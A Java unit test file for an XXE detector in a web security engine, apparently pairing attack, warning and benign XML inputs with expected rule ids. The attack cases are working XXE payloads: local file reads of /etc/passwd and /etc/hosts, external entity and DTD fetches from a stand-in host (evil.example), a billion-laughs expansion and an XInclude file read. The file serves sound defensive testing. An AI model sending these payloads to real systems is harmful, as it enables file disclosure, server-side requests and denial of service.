package ai.traceable.tme.engine.detect.xxe;

import ai.traceable.tme.engine.detect.Detector;
import ai.traceable.tme.engine.detect.DetectorTableTest;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

class XxeDetectorTest extends DetectorTableTest {
  private static final XxeDetector DETECTOR = new XxeDetector();

  @Override
  protected Detector detector() {
    return DETECTOR;
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        a(
            Placement.XML,
            "document",
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            "xxe-100"),
        a(
            Placement.XML,
            "document",
            "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//x//y\" \"http://evil.example/x\">]><r>&x;</r>",
            "xxe-100"),
        a(
            Placement.XML,
            "document",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><r/>",
            "xxe-110"),
        a(
            Placement.XML,
            "document",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;\">"
                + "<!ENTITY lol2 \"&lol1;&lol1;&lol1;\">]><lolz>&lol2;</lolz>",
            "xxe-120"),
        a(
            Placement.XML,
            "document",
            "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\""
                + " parse=\"text\"/></r>",
            "xxe-130"),
        a(
            Placement.XML,
            "document",
            "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
            "xxe-140"),
        a(
            Placement.QUERY,
            "xml",
            "%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/hosts%22%3E%5D%3E",
            "xxe-100"),
        w(
            Placement.XML,
            "document",
            "<!DOCTYPE note [<!ENTITY writer \"Donald Duck.\">]><note>&writer;</note>",
            "xxe-150"),
        w(
            Placement.TEXT,
            "",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\""
                + " \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
            "xxe-160"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        b(Placement.XML, "document", "<?xml version=\"1.0\"?><order><id>42</id></order>"),
        b(Placement.XML, "document", "<note>fish &amp; chips</note>"),
        b(Placement.TEXT, "", "<!DOCTYPE html><html><body>hi</body></html>"),
        b(Placement.JSON, "comment", "<!-- a comment --> and some text"),
        b(Placement.JSON, "text", "Use the system entity of your choice"));
  }
}
